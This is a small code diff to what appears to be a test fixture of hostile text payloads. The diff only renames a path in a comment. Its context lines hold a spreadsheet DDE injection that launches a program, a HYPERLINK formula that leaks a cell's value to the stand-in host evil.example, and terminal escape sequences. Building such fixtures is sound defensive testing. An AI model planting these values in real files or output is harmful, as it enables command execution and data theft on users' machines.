@@ -56,7 +56,7 @@ export const PATHOLOGIES = [
 export const HOSTILE_TEXT_PAYLOADS = {
   /**
    * A resource id: none of "/?#\\" and no C0 control character, so it still addresses the resource
-   * as one URL path segment (target/resource-path.ts refuses the others); the 8-bit CSI 0x9B is C1.
+   * as one URL path segment (engine/resource-path.ts refuses the others); the 8-bit CSI 0x9B is C1.
    */
   id: "=cmd|' -C calc'!A0\u009b2J",
   displayName: '=HYPERLINK("http://evil.example/?leak="&A2,"click")\u001b[2J\u001b]8;;http://evil.example/\u001b\\x\u001b]8;;\u001b\\',
